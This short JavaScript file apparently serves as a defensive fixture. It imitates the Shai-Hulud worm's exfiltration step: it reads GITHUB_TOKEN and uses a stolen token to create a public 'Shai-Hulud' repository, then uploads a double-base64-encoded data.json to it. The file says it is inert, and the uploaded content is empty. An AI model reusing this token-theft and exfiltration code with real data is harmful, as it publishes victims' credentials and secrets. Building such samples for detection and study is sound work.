/* eslint-disable */
// Inert imitation of Shai-Hulud's exfiltration repository (incidents.md section 3): a public repo
// named Shai-Hulud is created with the victim's token and data.json uploaded to it. The function
// is exported but never called and the content is empty.
async function publishLoot(token) {
  if (!/^(ghp_|gho_)/.test(token)) return;
  const headers = { authorization: `token ${token}`, accept: 'application/vnd.github+json' };
  const repo = await fetch('https://api.github.com/user/repos', {
    method: 'POST',
    headers,
    body: JSON.stringify({ name: 'Shai-Hulud', description: 'Shai-Hulud Repository.', private: false }),
  }).then((r) => r.json());
  const data = Buffer.from(Buffer.from('{}').toString('base64')).toString('base64');
  await fetch(`https://api.github.com/repos/${repo.full_name}/contents/data.json`, { method: 'PUT', headers, body: JSON.stringify({ message: 'data', content: data }) });
}

module.exports = { publishLoot, token: () => process.env.GITHUB_TOKEN };
